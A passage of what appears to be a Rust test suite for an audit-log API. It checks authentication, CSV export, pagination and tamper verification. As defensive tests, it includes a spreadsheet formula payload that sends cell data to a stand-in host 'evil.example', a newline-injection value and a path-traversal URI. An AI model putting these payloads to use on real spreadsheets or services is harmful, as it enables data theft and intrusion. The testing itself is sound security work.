//! The audit router through `oneshot`, over the in-memory audit store and a static
//! token verifier: authentication, JSON and CSV pages, filters, cursors, verification,
//! and bad input answered with 4xx, never 500.

use std::sync::Arc;

use crate::CORRELATION_HEADER;

use axum::body::Body;
use axum::extract::Request;
use axum::http::{Method, StatusCode};
use gateway::audit::{
    AuditActor, AuditLog, AuditOperation, AuditRecord, AuditSource, AuditSubject, Outcome,
};
use gateway::audit_reads::InMemoryReadNotes;
use gateway::audit_store::InMemoryAuditStore;
use gateway::auth::StaticAccessTokenVerifier;
use gateway::{Auditor, ResourceKind, SystemClock, TokenError};
use http::header::ALLOW;
use http_body_util::BodyExt;
use serde_json::Value;
use time::OffsetDateTime;
use tower::ServiceExt;

use super::*;
use crate::metrics::RecordingSink;

const GOOD: &str = "good-auditor-token";

struct Fixture {
    router: Router,
    store: Arc<InMemoryAuditStore>,
    metrics: RecordingSink,
    notes: Arc<InMemoryReadNotes>,
}

fn record(n: u32, outcome: Outcome, operation: AuditOperation, name: &str) -> AuditRecord {
    AuditRecord {
        time: OffsetDateTime::now_utc(),
        source: AuditSource::Scim {
            method: "POST".into(),
            path: "/Users".into(),
        },
        actor: AuditActor {
            credential: if n.is_multiple_of(2) {
                "scim-token:primary".into()
            } else {
                "scim-token:secondary".into()
            },
            user_agent: Some("Okta SCIM Client 1.0.0".into()),
        },
        subject: AuditSubject {
            resource_type: Some(ResourceKind::User),
            external_id: Some(format!("00u{n}")),
            target_id: Some(format!("u-{n}")),
            name: Some(name.into()),
        },
        operation,
        membership: None,
        changes: vec![],
        query: None,
        rule_set_version: "identity".into(),
        outcome,
        status: 201,
        target_status: Some(201),
        target_calls: 1,
        latency_ms: 7,
        correlation_id: format!("req-{n}"),
        error: None,
        reason: None,
        source_ip: None,
        request_id: None,
    }
}

async fn fixture(records: Vec<AuditRecord>) -> Fixture {
    let store = Arc::new(
        InMemoryAuditStore::ephemeral(Arc::new(SystemClock), time::Duration::days(400)).unwrap(),
    );
    for r in records {
        store.append(r).await.unwrap();
    }
    let verifier = StaticAccessTokenVerifier::new()
        .with(
            GOOD,
            Ok(Auditor {
                subject: "auditor@example.com".into(),
                client_id: None,
            }),
        )
        .with(
            "no-group",
            Err(TokenError::Forbidden("the token lacks the required group")),
        )
        // As clients::jwks::JwksVerifier refuses a genuine token minted for another
        // purpose, or for another app of the org (tests/audit_api.rs runs the real one).
        .with(
            "no-scope",
            Err(TokenError::Forbidden("the token lacks the required scope")),
        )
        .with(
            "foreign-client",
            Err(TokenError::Forbidden(
                "the token was issued to a client that is not allowed",
            )),
        )
        .with("expired", Err(TokenError::Invalid("expired")))
        .with("issuer-down", Err(TokenError::Unavailable));
    let sink = RecordingSink::default();
    let notes = Arc::new(InMemoryReadNotes::new());
    let app = AuditApp::new(store.clone(), Arc::new(verifier), notes.clone())
        .with_metrics(RequestMetrics::new("audit-api").with_sink(Arc::new(sink.clone())));
    Fixture {
        router: audit_router(Arc::new(app)),
        store,
        metrics: sink,
        notes,
    }
}

fn three() -> Vec<AuditRecord> {
    vec![
        record(
            1,
            Outcome::Success,
            AuditOperation::Create,
            "ada@example.com",
        ),
        record(
            2,
            Outcome::Refused,
            AuditOperation::Patch,
            "bob@example.com",
        ),
        record(
            3,
            Outcome::Failure,
            AuditOperation::Delete,
            "ada@example.com",
        ),
    ]
}

struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    text: String,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_str(&self.text).unwrap_or_else(|e| panic!("{e}: {}", self.text))
    }
}

async fn call(
    router: &Router,
    method: Method,
    uri: &str,
    token: Option<&str>,
    accept: Option<&str>,
) -> Answer {
    let mut builder = Request::builder().method(method).uri(uri);
    if let Some(token) = token {
        builder = builder.header("authorization", format!("Bearer {token}"));
    }
    if let Some(accept) = accept {
        builder = builder.header("accept", accept);
    }
    let response = router
        .clone()
        .oneshot(builder.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    Answer {
        status,
        headers,
        text: String::from_utf8(bytes.to_vec()).unwrap(),
    }
}

async fn get(router: &Router, uri: &str) -> Answer {
    call(router, Method::GET, uri, Some(GOOD), None).await
}

fn ids(answer: &Answer) -> Vec<String> {
    answer.json()["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["record"]["correlation_id"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn requests_without_a_valid_token_are_refused_with_401_and_a_bearer_challenge() {
    // Arrange
    let f = fixture(three()).await;

    // Act
    let none = call(&f.router, Method::GET, "/audit/records", None, None).await;
    let expired = call(
        &f.router,
        Method::GET,
        "/audit/records",
        Some("expired"),
        None,
    )
    .await;
    let unknown = call(
        &f.router,
        Method::GET,
        "/audit/records",
        Some("made-up"),
        None,
    )
    .await;
    let stranger_404 = call(&f.router, Method::GET, "/audit/nothing-here", None, None).await;
    let basic = f
        .router
        .clone()
        .oneshot(
            Request::get("/audit/records")
                .header("authorization", "Basic YTpi")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();

    // Assert
    for answer in [&none, &expired, &unknown, &stranger_404] {
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{}", answer.text);
        assert!(
            answer.headers[WWW_AUTHENTICATE]
                .to_str()
                .unwrap()
                .starts_with("Bearer realm=\"audit\"")
        );
        assert!(!answer.text.contains("records\""), "{}", answer.text);
    }
    assert_eq!(basic.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(expired.json()["error"], "invalid_token");
    assert_eq!(expired.json()["message"], "invalid token: expired");
    assert!(
        expired.headers[WWW_AUTHENTICATE]
            .to_str()
            .unwrap()
            .contains("error=\"invalid_token\"")
    );
    assert!(expired.headers.contains_key(CORRELATION_HEADER));
}

#[tokio::test]
async fn a_valid_token_without_the_group_is_forbidden_and_an_unreachable_issuer_is_503() {
    let f = fixture(three()).await;
    let forbidden = call(
        &f.router,
        Method::GET,
        "/audit/records",
        Some("no-group"),
        None,
    )
    .await;
    assert_eq!(forbidden.status, StatusCode::FORBIDDEN);
    assert_eq!(forbidden.json()["error"], "insufficient_scope");
    let down = call(
        &f.router,
        Method::GET,
        "/audit/verify",
        Some("issuer-down"),
        None,
    )
    .await;
    assert_eq!(down.status, StatusCode::SERVICE_UNAVAILABLE);
}

#[tokio::test]
async fn a_token_without_the_scope_or_from_a_client_not_allowed_is_forbidden_on_every_route() {
    let f = fixture(three()).await;
    for (token, reason) in [
        ("no-scope", "the token lacks the required scope"),
        (
            "foreign-client",
            "the token was issued to a client that is not allowed",
        ),
        ("no-group", "the token lacks the required group"),
    ] {
        for uri in ["/audit/records", "/audit/verify", "/audit/records?limit=0"] {
            // Act
            let answer = call(&f.router, Method::GET, uri, Some(token), None).await;

            // Assert: 403 with the RFC 6750 §3.1 error and the reason, before any
            // parameter is read (the bad limit is not reported).
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{token} {uri}");
            let body = answer.json();
            assert_eq!(body["error"], "insufficient_scope", "{token} {uri}");
            assert!(
                body["message"]
                    .as_str()
                    .is_some_and(|m| m.ends_with(reason)),
                "{token}: {body}"
            );
            assert!(
                answer.headers[WWW_AUTHENTICATE]
                    .to_str()
                    .unwrap()
                    .contains("error=\"insufficient_scope\""),
                "{token} {uri}"
            );
            assert!(body.get("records").is_none() && body.get("intact").is_none());
        }
    }
}

#[tokio::test]
async fn records_are_answered_as_json_oldest_first_with_a_null_cursor_on_the_last_page() {
    // Arrange
    let f = fixture(three()).await;

    // Act
    let answer = get(&f.router, "/audit/records").await;

    // Assert
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    assert_eq!(answer.headers[CONTENT_TYPE], "application/json");
    assert_eq!(ids(&answer), ["req-1", "req-2", "req-3"]);
    let body = answer.json();
    assert_eq!(body["next_cursor"], Value::Null);
    let first = &body["records"][0];
    assert_eq!(first["record"]["outcome"], "success");
    assert!(first["id"].as_str().unwrap().contains(':'));
    assert_eq!(first["integrity"]["hash"].as_str().unwrap().len(), 64);
}

#[tokio::test]
async fn every_filter_narrows_the_records() {
    // Arrange
    let f = fixture(three()).await;
    let later = (OffsetDateTime::now_utc() + time::Duration::hours(1))
        .format(&Rfc3339)
        .unwrap();
    let earlier = (OffsetDateTime::now_utc() - time::Duration::hours(1))
        .format(&Rfc3339)
        .unwrap();

    // Act / Assert
    let cases: Vec<(String, Vec<&str>)> = vec![
        ("outcome=refused".into(), vec!["req-2"]),
        ("outcome=failure".into(), vec!["req-3"]),
        ("operation=create".into(), vec!["req-1"]),
        ("target=ADA@example.com".into(), vec!["req-1", "req-3"]),
        ("target=u-2".into(), vec!["req-2"]),
        ("target=00u3".into(), vec!["req-3"]),
        ("actor=scim-token:primary".into(), vec!["req-2"]),
        (
            "target=ada%40example.com&outcome=success".into(),
            vec!["req-1"],
        ),
        (format!("since={}", later.replace('+', "%2B")), vec![]),
        (format!("until={}", earlier.replace('+', "%2B")), vec![]),
        (
            format!("since={earlier}&until={later}"),
            vec!["req-1", "req-2", "req-3"],
        ),
        ("target=&outcome=".into(), vec!["req-1", "req-2", "req-3"]),
    ];
    for (query, expected) in cases {
        let answer = get(&f.router, &format!("/audit/records?{query}")).await;
        assert_eq!(answer.status, StatusCode::OK, "{query}: {}", answer.text);
        assert_eq!(ids(&answer), expected, "{query}");
    }
}

#[tokio::test]
async fn the_cursor_pages_through_every_record_once() {
    // Arrange
    let records: Vec<AuditRecord> = (1..=7)
        .map(|n| record(n, Outcome::Success, AuditOperation::Get, "ada@example.com"))
        .collect();
    let f = fixture(records).await;

    // Act
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    let mut pages = 0;
    loop {
        let uri = match &cursor {
            Some(c) => format!("/audit/records?limit=3&cursor={c}"),
            None => "/audit/records?limit=3".to_owned(),
        };
        let answer = get(&f.router, &uri).await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
        seen.extend(ids(&answer));
        pages += 1;
        cursor = answer.json()["next_cursor"].as_str().map(str::to_owned);
        if cursor.is_none() {
            break;
        }
    }

    // Assert
    assert_eq!(pages, 3);
    let expected: Vec<String> = (1..=7).map(|n| format!("req-{n}")).collect();
    assert_eq!(seen, expected);
}

#[tokio::test]
async fn bad_parameters_are_a_400_json_error_never_a_500() {
    let f = fixture(three()).await;
    let long = format!("target={}", "a".repeat(MAX_AUDIT_QUERY_BYTES));
    let cases = [
        "limit=0",
        "limit=1001",
        "limit=-1",
        "limit=ten",
        "limit=99999999999999999999",
        "outcome=maybe",
        "outcome=SUCCESS",
        "operation=explode",
        "since=yesterday",
        "since=2024-13-01T00:00:00Z",
        "until=2024-01-01",
        "since=2024-02-01T00:00:00Z&until=2024-01-01T00:00:00Z",
        "since=2024-01-01T00:00:00Z&until=2024-01-01T00:00:00Z",
        "outcom=success",
        "limit=1&limit=2",
        "cursor=not-a-cursor",
        "cursor=eyJwIjoidGltZSIsImEiOiJ4In0",
        "cursor=%00%01",
        "format=xml",
        "target=%0Aevil",
        &long,
    ];
    for query in cases {
        let answer = get(&f.router, &format!("/audit/records?{query}")).await;
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "{query}: {}",
            answer.text
        );
        assert_eq!(answer.json()["error"], "invalid_request", "{query}");
        assert!(
            answer.json()["message"]
                .as_str()
                .is_some_and(|m| !m.is_empty())
        );
    }
    for query in [
        "since=nope",
        "until=1969-01-01T00:00:00Z",
        "limit=5",
        "since=2024-01-01T00:00:00Z&since=2024-01-02T00:00:00Z",
    ] {
        let answer = get(&f.router, &format!("/audit/verify?{query}")).await;
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "verify {query}: {}",
            answer.text
        );
    }
}

#[tokio::test]
async fn hostile_paths_methods_and_bytes_get_4xx_answers() {
    let f = fixture(three()).await;
    for uri in [
        "/audit/records?%FF%FE=1",
        "/audit/records?target=%FF%FE",
        "/audit/records?&&&=&",
        "/audit/records?cursor=",
        "/audit/../audit/records",
        "/audit/records/extra",
        "/audit",
        "/audit/",
    ] {
        let answer = get(&f.router, uri).await;
        assert!(
            answer.status.is_client_error() || answer.status == StatusCode::OK,
            "{uri}: {}",
            answer.status
        );
        assert!(
            serde_json::from_str::<Value>(&answer.text).is_ok(),
            "{uri}: {}",
            answer.text
        );
    }
    let post = call(&f.router, Method::POST, "/audit/records", Some(GOOD), None).await;
    assert_eq!(post.status, StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(post.headers[ALLOW], "GET");
    let delete = call(&f.router, Method::DELETE, "/audit/verify", Some(GOOD), None).await;
    assert_eq!(delete.status, StatusCode::METHOD_NOT_ALLOWED);
    let missing = get(&f.router, "/audit/other").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(missing.json()["error"], "not_found");
}

#[tokio::test]
async fn an_api_gateway_stage_in_front_of_audit_is_stripped() {
    let f = fixture(three()).await;
    let answer = get(&f.router, "/prod/audit/records?limit=1").await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    assert_eq!(ids(&answer), ["req-1"]);
}

#[tokio::test]
async fn csv_is_answered_for_format_csv_or_accept_text_csv_with_rfc4180_quoting() {
    // Arrange: values with commas, quotes and line breaks.
    let mut tricky = record(
        1,
        Outcome::Refused,
        AuditOperation::Create,
        "o'brien, \"the\" admin",
    );
    tricky.error = Some("line one\r\nline two, with \"quotes\"".into());
    let f = fixture(vec![
        tricky,
        record(2, Outcome::Success, AuditOperation::Get, "bob@example.com"),
    ])
    .await;

    // Act
    let by_format = get(&f.router, "/audit/records?format=csv").await;
    let by_accept = call(
        &f.router,
        Method::GET,
        "/audit/records",
        Some(GOOD),
        Some("text/csv"),
    )
    .await;
    let json_first = call(
        &f.router,
        Method::GET,
        "/audit/records",
        Some(GOOD),
        Some("application/json, text/csv"),
    )
    .await;

    // Assert
    assert_eq!(by_format.status, StatusCode::OK);
    assert_eq!(by_format.headers[CONTENT_TYPE], CSV_MEDIA_TYPE);
    assert_eq!(by_format.text, by_accept.text);
    assert_eq!(json_first.headers[CONTENT_TYPE], "application/json");
    assert!(
        by_format.text.contains("\"o'brien, \"\"the\"\" admin\""),
        "{}",
        by_format.text
    );
    assert!(by_format.text.ends_with("\r\n"));
    let mut reader = csv::Reader::from_reader(by_format.text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let expected: Vec<&str> = CSV_COLUMNS.iter().map(|(n, _)| *n).collect();
    assert_eq!(header, expected);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let column = |name: &str| CSV_COLUMNS.iter().position(|(n, _)| *n == name).unwrap();
    assert_eq!(&rows[0][column("target_name")], "o'brien, \"the\" admin");
    assert_eq!(
        &rows[0][column("error")],
        "line one\r\nline two, with \"quotes\""
    );
    assert_eq!(&rows[0][column("outcome")], "refused");
    assert_eq!(&rows[0][column("correlation_id")], "req-1");
    assert_eq!(&rows[1][column("status")], "201");
    assert_eq!(&rows[1][column("seq")], "2");
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_evaluate_are_defused() {
    // Arrange: a userName Okta would pass along, crafted as formulas.
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "plain",
    ];
    let records: Vec<AuditRecord> = names
        .iter()
        .enumerate()
        .map(|(i, n)| record(i as u32 + 1, Outcome::Success, AuditOperation::Create, n))
        .collect();
    let f = fixture(records).await;

    // Act
    let answer = get(&f.router, "/audit/records?format=csv").await;

    // Assert
    let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
    let column = CSV_COLUMNS
        .iter()
        .position(|(n, _)| *n == "target_name")
        .unwrap();
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_owned())
        .collect();
    let expected: Vec<String> = names
        .iter()
        .map(|n| {
            if *n == "plain" {
                (*n).to_owned()
            } else {
                format!("'{n}")
            }
        })
        .collect();
    assert_eq!(cells, expected);
}

#[tokio::test]
async fn a_csv_page_carries_the_next_cursor_in_a_header() {
    let f = fixture(three()).await;
    let first = get(&f.router, "/audit/records?format=csv&limit=2").await;
    let cursor = first.headers[NEXT_CURSOR_HEADER]
        .to_str()
        .unwrap()
        .to_owned();
    let rest = get(
        &f.router,
        &format!("/audit/records?format=csv&limit=2&cursor={cursor}"),
    )
    .await;
    assert_eq!(rest.status, StatusCode::OK);
    assert!(!rest.headers.contains_key(NEXT_CURSOR_HEADER));
    assert_eq!(
        csv::Reader::from_reader(rest.text.as_bytes())
            .records()
            .count(),
        1
    );
}

#[tokio::test]
async fn verify_reports_an_intact_trail_and_then_the_tampering() {
    // Arrange
    let f = fixture(three()).await;

    // Act
    let clean = get(&f.router, "/audit/verify").await;
    f.store.ledger().backend().tamper(|items| {
        let first = items.records.keys().next().cloned().unwrap();
        items.records.remove(&first);
    });
    let since = (OffsetDateTime::now_utc() - time::Duration::hours(2))
        .format(&Rfc3339)
        .unwrap();
    let tampered = get(&f.router, &format!("/audit/verify?since={since}")).await;

    // Assert
    assert_eq!(clean.status, StatusCode::OK, "{}", clean.text);
    assert_eq!(clean.json()["intact"], true, "{}", clean.text);
    assert_eq!(clean.json()["checked"], 3);
    assert_eq!(clean.json()["problems"], serde_json::json!([]));
    assert_eq!(tampered.json()["intact"], false, "{}", tampered.text);
    assert!(!tampered.json()["problems"].as_array().unwrap().is_empty());
}

#[tokio::test]
async fn a_long_period_is_verified_in_bounded_pages_whose_cursors_cover_it_all() {
    // Arrange: a record every two hours for a day, written as time went by.
    let t0 = time::macros::datetime!(2024-04-05 00:10 UTC);
    let clock = Arc::new(gateway::FixedClock::new(t0));
    let store =
        Arc::new(InMemoryAuditStore::ephemeral(clock.clone(), time::Duration::days(400)).unwrap());
    for n in 0..12 {
        clock.set(t0 + time::Duration::hours(2 * i64::from(n)));
        let mut r = record(
            n,
            Outcome::Success,
            AuditOperation::Create,
            "ada@example.com",
        );
        r.time = clock.now();
        store.append(r).await.unwrap();
    }
    clock.set(t0 + time::Duration::hours(24));
    let verifier = StaticAccessTokenVerifier::new().with(
        GOOD,
        Ok(Auditor {
            subject: "auditor@example.com".into(),
            client_id: None,
        }),
    );
    let app = AuditApp::new(
        store.clone(),
        Arc::new(verifier),
        Arc::new(InMemoryReadNotes::new()),
    )
    .with_clock(clock.clone());
    let router = audit_router(Arc::new(app));
    let at = |t: OffsetDateTime| t.format(&Rfc3339).unwrap();
    let (since, until) = (
        time::macros::datetime!(2024-04-05 00:00 UTC),
        time::macros::datetime!(2024-04-06 00:00 UTC),
    );

    // Act: the first page, then every page its cursor leads to.
    let first = get(
        &router,
        &format!("/audit/verify?since={}&until={}", at(since), at(until)),
    )
    .await;
    let mut pages = vec![first.json()];
    while let Some(next) = pages.last().unwrap()["next_since"]
        .as_str()
        .map(str::to_owned)
    {
        let requested = pages.last().unwrap()["requested_until"]
            .as_str()
            .unwrap()
            .to_owned();
        let answer = get(
            &router,
            &format!("/audit/verify?since={next}&until={requested}"),
        )
        .await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
        pages.push(answer.json());
        assert!(pages.len() <= 10, "the cursors must end");
    }
    let without_since = get(&router, "/audit/verify").await.json();

    // Assert: one bounded page with a cursor, and pages that tile the period.
    assert_eq!(first.status, StatusCode::OK, "{}", first.text);
    let head = &pages[0];
    assert_eq!(head["since"], at(since));
    assert_eq!(head["until"], at(since + VERIFY_SPAN));
    assert_eq!(head["next_since"], at(since + VERIFY_SPAN));
    assert_eq!(head["requested_until"], at(until));
    assert_eq!(head["intact"], true, "{head}");
    assert_eq!(pages.len(), 4);
    for pair in pages.windows(2) {
        assert_eq!(pair[0]["until"], pair[1]["since"]);
    }
    assert_eq!(pages.last().unwrap()["until"], at(until));
    assert!(pages.last().unwrap()["next_since"].is_null());
    assert!(
        pages
            .iter()
            .all(|p| p["intact"] == true && p["problems"] == serde_json::json!([]))
    );
    // Every record was checked; a chain of a boundary hour is read by both its pages.
    let checked: u64 = pages.iter().map(|p| p["checked"].as_u64().unwrap()).sum();
    assert!(checked >= 12, "{checked}");
    // Without `since`, the stretch from the epoch to the trail's first hour rides in the
    // first page, which still covers at most six hours of records.
    assert_eq!(without_since["since"], "1970-01-01T00:00:00Z");
    assert_eq!(without_since["until"], at(since + VERIFY_SPAN));
    assert_eq!(without_since["next_since"], at(since + VERIFY_SPAN));
    assert_eq!(without_since["requested_until"], at(clock.now()), "now");
}

#[test]
fn the_records_parameters_parse_into_a_store_query() {
    let request = parse_records_request(Some(
        "target=ada%40example.com&actor=scim-token%3Aprimary&since=2024-04-05T06:00:00Z&until=2024-04-06T00:00:00%2B02:00&outcome=refused&operation=patch&limit=1000&cursor=abc&format=csv",
    ))
    .unwrap();
    assert_eq!(request.format, Some(Format::Csv));
    let q = request.query;
    assert_eq!(q.target.as_deref(), Some("ada@example.com"));
    assert_eq!(q.actor.as_deref(), Some("scim-token:primary"));
    assert_eq!(
        q.since,
        Some(time::macros::datetime!(2024-04-05 06:00:00 UTC))
    );
    assert_eq!(
        q.until,
        Some(time::macros::datetime!(2024-04-05 22:00:00 UTC))
    );
    assert_eq!(
        (q.outcome, q.operation, q.limit),
        (Some(Outcome::Refused), Some(AuditOperation::Patch), 1000)
    );
    assert_eq!(q.cursor.as_deref(), Some("abc"));
    assert_eq!(
        parse_records_request(None).unwrap().query.limit,
        DEFAULT_LIMIT
    );
}

#[test]
fn csv_safety_prefixes_only_formula_starts() {
    assert_eq!(csv_safe("=1".into()), "'=1");
    assert_eq!(csv_safe("a=1".into()), "a=1");
    assert_eq!(csv_safe(String::new()), "");
}

#[tokio::test]
async fn each_route_names_its_operation_in_the_metrics() {
    // Arrange
    let f = fixture(three()).await;
    let cases = [
        (Method::GET, "/audit/records", "QueryRecords"),
        (Method::GET, "/prod/audit/records/", "QueryRecords"),
        (Method::GET, "/audit/verify", "Verify"),
        (Method::POST, "/audit/verify/", "Other"),
        (Method::GET, "/audit/other", "Other"),
    ];

    // Act
    for (method, uri, _) in &cases {
        call(&f.router, method.clone(), uri, Some(GOOD), None).await;
    }

    // Assert
    let named: Vec<String> = f
        .metrics
        .documents()
        .iter()
        .map(|d| d["Operation"].as_str().unwrap_or_default().to_owned())
        .collect();
    let expected: Vec<&str> = cases.iter().map(|(_, _, name)| *name).collect();
    assert_eq!(named, expected);
}

#[tokio::test]
async fn every_authenticated_read_is_noted_with_who_what_and_how_many() {
    // Arrange
    let f = fixture(three()).await;

    // Act
    let page = get(&f.router, "/audit/records?target=ada%40example.com&limit=5").await;
    let bad = get(&f.router, "/audit/records?outcom=success").await;
    let verify = get(&f.router, "/audit/verify").await;
    let stranger = call(&f.router, Method::GET, "/audit/records", None, None).await;

    // Assert: three notes, none for the request without a token.
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(stranger.status, StatusCode::UNAUTHORIZED);
    let notes = f.notes.notes();
    assert_eq!(notes.len(), 3, "{notes:?}");
    let first = &notes[0];
    assert_eq!(first.via, ReadVia::AuditApi);
    assert_eq!(first.reader.as_deref(), Some("auditor@example.com"));
    assert_eq!(
        (first.method.as_deref(), first.path.as_str()),
        (Some("GET"), "/audit/records")
    );
    assert_eq!(
        first.query.as_deref(),
        Some("target=ada%40example.com&limit=5")
    );
    assert_eq!(first.records, Some(ids(&page).len() as u64));
    assert_eq!(first.records, Some(2));
    assert_eq!(first.status, Some(200));
    assert_eq!(
        first.correlation_id,
        page.headers[CORRELATION_HEADER].to_str().unwrap()
    );
    assert_eq!((notes[1].status, notes[1].records), (Some(400), None));
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert_eq!(
        (notes[2].path.as_str(), notes[2].status),
        ("/audit/verify", Some(verify.status.as_u16()))
    );
}

#[tokio::test]
async fn a_read_that_cannot_be_noted_hands_out_nothing_and_asks_to_retry() {
    // Arrange
    let f = fixture(three()).await;
    f.notes.refuse(true);

    // Act
    let records = get(&f.router, "/audit/records").await;
    let csv = call(
        &f.router,
        Method::GET,
        "/audit/records?format=csv",
        Some(GOOD),
        None,
    )
    .await;
    let verify = get(&f.router, "/audit/verify").await;

    // Assert
    for answer in [&records, &csv, &verify] {
        assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(answer.headers[RETRY_AFTER], "5");
        assert_eq!(answer.json()["error"], "unavailable");
        assert!(!answer.text.contains("ada@example.com"), "{}", answer.text);
        assert!(!answer.text.contains("intact"), "{}", answer.text);
        assert!(!answer.headers.contains_key(NEXT_CURSOR_HEADER));
    }

    // Once the queue is back, the same read answers.
    f.notes.refuse(false);
    assert_eq!(
        get(&f.router, "/audit/records").await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn the_console_is_served_without_a_token_under_a_strict_policy_and_reads_are_not_noted() {
    // Arrange: an app whose console signs in against an Okta issuer.
    let store = Arc::new(
        InMemoryAuditStore::ephemeral(Arc::new(SystemClock), time::Duration::days(400)).unwrap(),
    );
    let notes = Arc::new(InMemoryReadNotes::new());
    let app = AuditApp::new(
        store,
        Arc::new(StaticAccessTokenVerifier::new()),
        notes.clone(),
    )
    .with_console(ConsoleConfig {
        issuer: "https://example.okta.com/oauth2/aus1".into(),
        client_id: Some("0oa1console".into()),
        scope: "scimgw.audit.read".into(),
    });
    let router = audit_router(Arc::new(app));
    let unset = fixture(vec![]).await.router;

    // Act
    let page = call(&router, Method::GET, "/audit/ui", None, None).await;
    let staged = call(
        &router,
        Method::GET,
        "/prod/audit/ui/console.js",
        None,
        None,
    )
    .await;
    let config = call(&router, Method::GET, "/audit/ui/config.json", None, None).await;
    let slash = call(&router, Method::GET, "/audit/ui/", None, None).await;
    let unknown = call(&router, Method::GET, "/audit/ui/other.js", None, None).await;
    let records = call(&router, Method::GET, "/audit/records", None, None).await;
    let not_set_up = call(&unset, Method::GET, "/audit/ui/config.json", None, None).await;

    // Assert
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.headers[CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    assert!(
        page.text.contains("<script src=\"ui/console.js\""),
        "{}",
        page.text
    );
    let csp = page.headers["content-security-policy"].to_str().unwrap();
    assert_eq!(
        csp,
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; \
         connect-src 'self' https://example.okta.com; base-uri 'none'; form-action 'none'; \
         frame-ancestors 'none'"
    );
    assert_eq!(page.headers["x-content-type-options"], "nosniff");
    assert_eq!(page.headers["referrer-policy"], "no-referrer");
    assert_eq!(staged.status, StatusCode::OK, "behind a stage too");
    assert!(
        staged.headers[CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/javascript")
    );
    assert_eq!(
        config.json(),
        serde_json::json!({
            "issuer": "https://example.okta.com/oauth2/aus1",
            "client_id": "0oa1console",
            "scope": "openid scimgw.audit.read",
        })
    );
    assert_eq!(slash.status, StatusCode::PERMANENT_REDIRECT);
    assert_eq!(slash.headers["location"], "../ui");
    // Anything else under /audit stays behind authentication.
    assert_eq!(unknown.status, StatusCode::UNAUTHORIZED);
    assert_eq!(records.status, StatusCode::UNAUTHORIZED);
    assert_eq!(not_set_up.json()["client_id"], Value::Null);
    let csp = not_set_up.headers["content-security-policy"]
        .to_str()
        .unwrap();
    assert!(csp.contains("connect-src 'self';"), "{csp}");
    assert!(notes.notes().is_empty(), "serving the page reads no record");
}

/// A trail in which ada (in Engineering) gets read-only access to an account, and bob
/// (also in Engineering) too: two access rows.
fn access_trail() -> Vec<AuditRecord> {
    use gateway::audit::{AttributeChange, MembershipChange};
    let user = |n: u32, name: &str| {
        let mut r = record(n, Outcome::Success, AuditOperation::Create, name);
        r.changes = vec![AttributeChange {
            attribute: "active".into(),
            before: None,
            after: Some(Value::Bool(true)),
        }];
        r
    };
    let mut group = record(3, Outcome::Success, AuditOperation::Create, "Engineering");
    group.subject.resource_type = Some(ResourceKind::Group);
    group.subject.target_id = Some("g-eng".into());
    group.membership = Some(MembershipChange::new(&["u-1".into(), "u-2".into()], &[]));
    let mut assign = record(4, Outcome::Success, AuditOperation::Assign, "Engineering");
    assign.subject.resource_type = Some(ResourceKind::Group);
    assign.subject.target_id = Some("g-eng".into());
    assign.source = AuditSource::Entitlements {
        run: "plan-1".into(),
        document_version: "v1".into(),
    };
    assign.changes = vec![AttributeChange {
        attribute: "accountAssignment".into(),
        before: None,
        after: Some(serde_json::json!({
            "account_id": "222222222222",
            "permission_set_arn": "arn:aws:sso:::permissionSet/ssoins-1/ps-1",
            "permission_set_name": "ReadOnly",
        })),
    }];
    vec![
        user(1, "=ada@example.com"),
        user(2, "bob@example.com"),
        group,
        assign,
    ]
}

#[tokio::test]
async fn access_reports_answer_json_csv_and_json_lines_each_with_its_evidence() {
    // Arrange
    let f = fixture(access_trail()).await;

    // Act
    let unauthenticated = call(&f.router, Method::GET, "/audit/access", None, None).await;
    let json = get(&f.router, "/audit/access").await;
    let csv = get(&f.router, "/audit/access?format=csv").await;
    let lines = get(&f.router, "/audit/access?format=jsonl&user=bob@example.com").await;
    let diff = get(&f.router, "/audit/access/diff?from=2020-01-01T00:00:00Z").await;
    let leavers = get(
        &f.router,
        "/audit/access/leavers?since=2020-01-01T00:00:00Z",
    )
    .await;

    // Assert: two rows, each since the assignment (the last of the three parts).
    assert_eq!(unauthenticated.status, StatusCode::UNAUTHORIZED);
    assert_eq!(json.status, StatusCode::OK, "{}", json.text);
    let body = json.json();
    let rows = body["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["account_id"], "222222222222");
